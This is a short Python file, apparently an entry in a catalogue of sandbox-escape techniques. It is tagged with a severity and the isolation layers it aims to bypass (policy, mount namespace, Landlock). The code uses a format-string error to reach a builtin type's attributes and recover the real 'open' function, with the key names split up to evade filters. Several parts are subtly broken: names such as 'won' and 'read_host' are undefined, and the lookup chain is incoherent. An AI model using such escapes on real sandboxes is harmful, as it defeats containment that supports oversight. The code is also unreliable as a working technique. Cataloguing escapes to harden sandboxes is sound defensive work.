# technique: a format field reads the table of a builtin type, and its error carries it
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import json

key = "__glo" + "bals__"

def by_table(table):
    """The real open, by the descriptors that the table of functions holds."""
    return table[key].__get__(json.dumps)["__built" + "ins__"]["op" + "en"]

def trick():
    try:
        "{0.__dict__.nothing}".format(type(won))
    except AttributeError as e:
        return by_table(e.obj)

read_host(trick)
